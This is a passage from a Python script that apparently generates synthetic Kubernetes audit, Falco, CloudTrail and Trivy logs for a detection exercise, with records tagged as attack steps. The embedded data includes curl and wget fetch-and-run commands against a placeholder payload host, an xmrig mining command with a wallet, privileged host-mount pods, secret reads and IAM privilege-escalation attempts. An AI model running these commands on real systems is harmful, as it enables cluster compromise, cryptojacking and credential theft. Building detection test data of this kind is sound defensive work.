    k8s_event(ns(44, 58.702215), "list", ALICE, ATTACKER_IP, ATTACKER_KUBECTL, "secrets", None,
              reason=admin_reason, note="attack:secrets-all")
    k8s_event(ns(45, 12.330871), "list", ALICE, ATTACKER_IP, ATTACKER_KUBECTL, "nodes", None,
              reason=admin_reason)
    dbg = PODS["debugger"]
    node_name = fqdn(dbg["node"])
    script = (f"apk add --no-cache curl >/dev/null 2>&1; curl -fsSL http://{PAYLOAD_HOST}/k.sh | sh; "
              "sleep infinity")
    c = container_spec("debugger", "docker.io/library/alpine:3.19",
                       command=["/bin/sh", "-c", script], privileged=True,
                       mounts=[{"name": "host-root", "mountPath": "/host"}])
    req = pod_object(dbg["pod"], "kube-system", [c],
                     volumes=[{"name": "host-root", "hostPath": {"path": "/", "type": ""}}],
                     labels={"app": "node-debugger"}, node_name=node_name, host=True,
                     tolerations=[{"operator": "Exists"}])
    t = ns(46, 30.551408)
    resp = pod_response(req, dbg["pod"], t, node_name=node_name)
    k8s_event(t, "create", ALICE, ATTACKER_IP, ATTACKER_KUBECTL, "pods", "kube-system", dbg["pod"],
              code=201, level="RequestResponse", request_object=req, response_object=resp,
              reason=admin_reason,
              extra_annotations={"pod-security.kubernetes.io/enforce-policy": "privileged:latest"},
              note="attack:privileged-pod")
    kubelet_ua = f"kubelet/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT}"
    for sec in (31.902117, 37.215530):
        k8s_event(ns(46, sec), "patch", node_user(dbg["node"]), NODES[dbg["node"]], kubelet_ua,
                  "pods", "kube-system", dbg["pod"], subresource="status", reason="")

    # 4. The pod pulls a miner and mines.
    f = proc_fields("sh", "/bin/busybox", "sh -c " + script, "containerd-shim")
    falco_event(ns(46, 36.108233017), "Launch Privileged Container", "Informational", dbg,
                "Privileged container started (" + proc_message(f), f,
                ["maturity_incubating", "container", "cis", "mitre_execution", "T1610",
                 "PCI_DSS_10.2.5"], note="attack:miner")
    f = proc_fields("apk", "/sbin/apk", "apk add --no-cache curl", "sh")
    falco_event(ns(46, 38.402871556), "Launch Package Management Process in Container", "Error", dbg,
                "Package management process launched in container (" + proc_message(f), f,
                ["maturity_sandbox", "container", "process", "software_mgmt", "mitre_persistence",
                 "T1505"], note="attack:miner")
    wallet = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"
    miner_cmd = (f"xmrig -o stratum+tcp://{POOL_IP}:3333 -u {wallet} -p node01 --donate-level=1 "
                 "--cpu-max-threads-hint=75 -B")
    t_exec_miner = ns(46, 52.731640289)
    f = proc_fields("xmrig", "/tmp/.x/xmrig", miner_cmd, "sh", flags="EXE_WRITABLE|EXE_UPPER_LAYER")
    f["proc.exe"] = "/tmp/.x/xmrig"
    f["proc.sname"] = "sh"
    f["proc.cwd"] = "/tmp/.x/"
    f["container.start_ts"] = ns(46, 35.977001240)
    falco_event(t_exec_miner, "Drop and execute new binary in container", "Critical", dbg,
                "Executing binary not part of base image (proc_exe=/tmp/.x/xmrig proc_sname=sh "
                "gparent=containerd-shim proc_cwd=/tmp/.x/ container_start_ts="
                + str(f["container.start_ts"]) + " " + proc_message(f)
                + " exe_flags=EXE_WRITABLE|EXE_UPPER_LAYER", f,
                ["maturity_stable", "container", "process", "mitre_persistence", "TA0003",
                 "PCI_DSS_11.5.1"], note="attack:miner")
    f = proc_fields("xmrig", "/tmp/.x/xmrig", miner_cmd, "sh")
    falco_event(t_exec_miner, "Detect crypto miners using the Stratum protocol", "Critical", dbg,
                "Possible miner running (" + proc_message(f), f,
                ["maturity_sandbox", "host", "container", "process", "mitre_impact", "T1496"],
                note="attack:miner")
    for minute, sec, lport in ((46, 53.108771402, 48212), (52, 53.641008117, 48844),
                               (63, 7.299184630, 50316)):
        falco_connection(ns(minute, sec), "Detect outbound connections to common miner pool ports",
                         "Critical", dbg, proc_fields("xmrig", "/tmp/.x/xmrig", miner_cmd, "sh"),
                         lport, POOL_IP, 3333, "Outbound connection to IP/Port flagged by https://cryptoioc.ch",
                         ["maturity_sandbox", "host", "container", "network", "mitre_impact", "T1496"],
                         note="attack:miner")


def attack_aws():
    who = CI_USER
    arn = who["arn"]

    def call(t, source, name, command, request=None, response=None, error=None, ua=None,
             region=REGION, host=None, note="attack:aws"):
        return cloudtrail(t, who, source, name, ATTACKER_IP,
                          ua or cli_ua(command, ATTACKER_CLI_PLATFORM), request=request,
                          response=response, error=error, region=region, host=host, note=note)

    call(ns(62, 10), "sts.amazonaws.com", "GetCallerIdentity", "sts.get-caller-identity")
    call(ns(62, 38), "lambda.amazonaws.com", "ListFunctions20150331", "lambda.list-functions")
    call(ns(62, 57), "lambda.amazonaws.com", "GetFunction20150331v2", "lambda.get-function",
         request={"functionName": "payments-webhook"})
    # Enumerating IAM with a boto3 script: every call is denied.
    iam_calls = [
        ((63, 31), "ListUsers", None, f"arn:aws:iam::{ACCOUNT}:user/"),
        ((63, 44), "ListRoles", None, f"arn:aws:iam::{ACCOUNT}:role/"),
        ((63, 58), "ListAttachedUserPolicies", {"userName": "ci-lambda-deployer"}, arn),
        ((64, 12), "GetAccountAuthorizationDetails", None, "*"),
        ((64, 25), "CreateUser", {"userName": "svc-backup"}, f"arn:aws:iam::{ACCOUNT}:user/svc-backup"),
        ((64, 39), "CreateAccessKey", {"userName": "ops-admin"}, f"arn:aws:iam::{ACCOUNT}:user/ops-admin"),
        ((64, 52), "AttachUserPolicy", {"userName": "ci-lambda-deployer",
                                        "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}, arn),
        ((65, 8), "PutUserPolicy", {"userName": "ci-lambda-deployer", "policyName": "lambda-ops",
                                    "policyDocument": '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}'},
         arn),
    ]
    for (minute, sec), name, request, resource in iam_calls:
        action = "iam:" + name
        call(ns(minute, sec), "iam.amazonaws.com", name, None, request=request,
             error=("AccessDenied", denied_message(arn, action, resource)), ua=BOTO_UA,
             region="us-east-1", note="attack:aws-denied")
    # Backdoor the webhook function and expose it to the Internet.
    t = ns(66, 20)
    call(t, "lambda.amazonaws.com", "UpdateFunctionCode20150331v2", "lambda.update-function-code",
         request={"fullyQualifiedArn": fq_arn("payments-webhook"),
                  "functionName": lambda_arn("payments-webhook"), "publish": False, "dryRun": False},
         response=function_config("payments-webhook", t, code_size=51877))
    statement = {"Sid": "FunctionURLAllowPublicAccess", "Effect": "Allow", "Principal": "*",
                 "Action": "lambda:InvokeFunctionUrl", "Resource": lambda_arn("payments-webhook"),
                 "Condition": {"StringEquals": {"lambda:FunctionUrlAuthType": "NONE"}}}
    call(ns(67, 5), "lambda.amazonaws.com", "AddPermission20150331v2", "lambda.add-permission",
         request={"functionName": "payments-webhook", "statementId": "FunctionURLAllowPublicAccess",
                  "action": "lambda:InvokeFunctionUrl", "principal": "*",
                  "functionUrlAuthType": "NONE"},
         response={"statement": json.dumps(statement, separators=(",", ":"))})
    t = ns(67, 31)
    url = "https://" + alnum(32, "abcdefghijklmnopqrstuvwxyz0123456789") + f".lambda-url.{REGION}.on.aws/"
    call(t, "lambda.amazonaws.com", "CreateFunctionUrlConfig20211031",
         "lambda.create-function-url-config",
         request={"functionName": "payments-webhook", "authType": "NONE"},
         response={"functionUrl": url, "functionArn": lambda_arn("payments-webhook"),
                   "authType": "NONE", "creationTime": iso_us(t)[:-4] + "Z"})
    call(ns(67, 49), "lambda.amazonaws.com", "GetFunctionUrlConfig20211031",
         "lambda.get-function-url-config", request={"functionName": "payments-webhook"})


def malformed_line():
    """One record cut short by a crashed forwarder: it must be dead-lettered, not fatal."""
    t = ns(50, 3.0)
    node, ip = "ip-10-0-21-9", NODES["ip-10-0-21-9"]
    # Render a real lease update, then keep only its first 211 bytes.
    before = len(S.items)
    k8s_event(t, "update", node_user(node), ip,
              f"kubelet/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT}", "leases",
              "kube-node-lease", fqdn(node), reason="")
    delivery, event, seq, text, _ = S.items.pop(before)
    S.add_text(event, text[:211], note="malformed")


# --------------------------------------------------------------------------------------------


def late_noise():
    """A few benign records delivered late (up to 10 s), as batching collectors do."""
    candidates = [i for i, item in enumerate(S.items) if not item[4]]
    for i in sorted(rng.sample(candidates, 7)):
        delivery, event, seq, text, note = S.items[i]
        S.items[i] = (event + rng.randrange(1_000_000, 9_500_000) * 1000, event, seq, text, note)


# ============================================================================================
# Supply chain and persistence (added with the scan-to-deploy rules). These records draw from
# their own random stream, after everything above, so the records above stay byte-identical.
# ============================================================================================


def trivy_report(t, image, tag, digest, image_id, vulns):
    """A Trivy JSON report (`trivy image -f json`, SchemaVersion 2) as CI ships it."""
    return {
        "SchemaVersion": 2, "CreatedAt": iso_ns(t), "ArtifactName": f"{image}:{tag}",
        "ArtifactType": "container_image",
        "Metadata": {"OS": {"Family": "debian", "Name": "12.4"}, "ImageID": image_id,
                     "DiffIDs": ["sha256:" + hexid(64), "sha256:" + hexid(64)],
                     "RepoTags": [f"{image}:{tag}"], "RepoDigests": [f"{image}@{digest}"],
                     "ImageConfig": {"architecture": "amd64", "os": "linux"}},
        "Results": vulns,
    }


def replicaset_pod(t, namespace, deployment, image_ref, port):
    """The replicaset controller creates one pod of a Deployment whose image is pinned by digest."""
    rs_user = sa_user("kube-system", "replicaset-controller")
    rs_ua = (f"kube-controller-manager/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT}/"
             "system:serviceaccount:kube-system:replicaset-controller")
    rs_reason = rbac_reason("ClusterRoleBinding", "system:controller:replicaset-controller",
                            "system:controller:replicaset-controller",
                            'ServiceAccount "replicaset-controller/kube-system"')
    rs_hash = alnum(10)
    rs_name = f"{deployment}-{rs_hash}"
    pod_name = rs_name + "-" + alnum(5)
    owner = {"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": rs_name, "uid": new_uuid(),
             "controller": True, "blockOwnerDeletion": True}
    req = pod_object(None, namespace, [container_spec(deployment, image_ref, ports=[port])],
                     labels={"app": deployment, "pod-template-hash": rs_hash}, owner=owner,
                     service_account=deployment, generate_name=rs_name + "-")
    resp = pod_response(req, pod_name, t)
    k8s_event(t, "create", rs_user, CONTROL_PLANE_IP, rs_ua, "pods", namespace, code=201,
              level="RequestResponse", request_object=req, response_object=resp, reason=rs_reason,
              extra_annotations={"pod-security.kubernetes.io/enforce-policy": "restricted:latest"},
              note="supply-chain:deploy")
    node = list(NODES)[len(deployment) % len(NODES)]
    tb = t + 14_000_000 + rng.randrange(0, 9000) * 1000
    k8s_event(tb, "create", SCHED_USER, CONTROL_PLANE_IP,
              f"kube-scheduler/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT}/scheduler",
              "pods", namespace, pod_name, subresource="binding", code=201,
              reason=rbac_reason("ClusterRoleBinding", "system:kube-scheduler",
                                 "system:kube-scheduler", 'User "system:kube-scheduler"'))
    return pod_name


def supply_chain_and_persistence():
    global rng
    saved, rng = rng, random.Random(SEED + 1)
    try:
        # (a) 10:01 CI scans the payments API image with Trivy: one CRITICAL (xz backdoor).
        api = f"{ECR}/payments/api"
        api_digest = "sha256:" + hexid(64)
        vulns = [
            {"Target": f"{api}:2.7.0 (debian 12.4)", "Class": "os-pkgs", "Type": "debian",
             "Vulnerabilities": [
                 {"VulnerabilityID": "CVE-2024-3094", "PkgName": "xz-utils",
                  "InstalledVersion": "5.6.0-0.2", "FixedVersion": "5.6.1+really5.4.5-1",
                  "Status": "fixed", "SeveritySource": "nvd",
                  "PrimaryURL": "https://avd.aquasec.com/nvd/cve-2024-3094",
                  "Title": "xz: malicious code in distributed source", "Severity": "CRITICAL"},
                 {"VulnerabilityID": "CVE-2023-4806", "PkgName": "libc6",
                  "InstalledVersion": "2.36-9+deb12u3", "Status": "affected",
                  "Severity": "MEDIUM"}]},
            {"Target": "app/requirements.txt", "Class": "lang-pkgs", "Type": "pip",
             "Vulnerabilities": [
                 {"VulnerabilityID": "CVE-2024-1135", "PkgName": "gunicorn",
                  "InstalledVersion": "21.2.0", "FixedVersion": "22.0.0", "Severity": "HIGH"}]},
        ]
        t_scan = ns(61, 37.214508331)
        S.add(t_scan, trivy_report(t_scan, api, "2.7.0", api_digest, "sha256:" + hexid(64), vulns),
              note="supply-chain:scan")
        # ... and it ships anyway: 10:16 the new ReplicaSet's pod in prod-payments, by digest.
        replicaset_pod(ns(76, 8.402), "prod-payments", "payments-api", f"{api}@{api_digest}", 8080)

        # (b) 10:21 a second image reaches prod-payments from a pipeline that skipped the scan.
        scorer = f"{ECR}/payments/fraud-scorer"
        replicaset_pod(ns(81, 44.117), "prod-payments", "fraud-scorer",
                       f"{scorer}@sha256:{hexid(64)}", 9090)

        # (c) 10:17 the attacker, cluster-admin since 09:46, comes back: port-forward to the
        # ledger database, then reads its credentials.
        k8s_event(ns(77, 12.530), "create", ALICE, ATTACKER_IP, ATTACKER_KUBECTL, "pods",
                  "payments", "ledger-db-0", subresource="portforward", code=101,
                  level="Request", stage="ResponseStarted",
                  reason=rbac_reason("ClusterRoleBinding", "dev-alice-admin", "cluster-admin",
                                     'User "dev-alice"'), note="attack:port-forward")
        k8s_event(ns(78, 40.661), "get", ALICE, ATTACKER_IP, ATTACKER_KUBECTL, "secrets",
                  "payments", "ledger-db-credentials",
                  reason=rbac_reason("ClusterRoleBinding", "dev-alice-admin", "cluster-admin",
                                     'User "dev-alice"'), note="attack:port-forward")

        # (d) 10:19 persistence: a CronJob in payments whose job mines (10:25).
        cron = {"kind": "CronJob", "apiVersion": "batch/v1",
                "metadata": {"name": "ledger-compaction", "namespace": "payments",
                             "creationTimestamp": None},
                "spec": {"schedule": "*/5 * * * *", "concurrencyPolicy": "Forbid",
                         "jobTemplate": {"spec": {"template": {"spec": {
                             "containers": [container_spec(
                                 "compaction", "docker.io/library/alpine:3.19",
                                 command=["sh", "-c", f"wget -qO- http://{PAYLOAD_HOST}/c.sh | sh"])],
                             "restartPolicy": "OnFailure"}}}}}}
        k8s_event(ns(79, 31.882), "create", ALICE, ATTACKER_IP, ATTACKER_KUBECTL, "cronjobs",
                  "payments", "ledger-compaction", code=201, level="RequestResponse",
                  request_object=cron,
                  reason=rbac_reason("ClusterRoleBinding", "dev-alice-admin", "cluster-admin",
                                     'User "dev-alice"'), note="attack:cronjob")
        job = dict(ns="payments", pod="ledger-compaction-29561545-" + alnum(5), container="compaction",
                   repo="docker.io/library/alpine", tag="3.19", node="ip-10-0-34-112",
                   ip="10.0.34.201", cid=hexid(12))
        wallet = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"
        f = proc_fields("xmrig", "/tmp/.c/xmrig",
                        f"xmrig -o stratum+tcp://{POOL_IP}:3333 -u {wallet} -p cron01 -B", "sh")
        falco_event(ns(85, 4.228), "Detect crypto miners using the Stratum protocol", "Critical",
                    job, "Possible miner running (" + proc_message(f), f,
                    ["maturity_stable", "host", "container", "process", "mitre_impact", "T1496"],
                    note="attack:cronjob")
    finally:
        rng = saved


def build():
    background_control_plane()
    background_kubelets()
    background_platform_services()
    background_developers()
    background_falco()
    background_cloudtrail()
    benign_ci_and_admin()
    node_join()
    benign_oddities()
    attack_kubernetes()
    attack_aws()
    malformed_line()
    late_noise()
    supply_chain_and_persistence()
    return "\n".join(S.lines()) + "\n"


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--stdout", action="store_true", help="print instead of writing the file")
    parser.add_argument("--out", default=os.path.join(os.path.dirname(os.path.abspath(__file__)), OUT_NAME))
    args = parser.parse_args()
    text = build()
    if args.stdout:
        sys.stdout.write(text)
    else:
        with open(args.out, "w", encoding="utf-8", newline="\n") as f:
            f.write(text)
        print(f"wrote {args.out}: {text.count(chr(10))} records, {len(text.encode())} bytes")


if __name__ == "__main__":
    main()
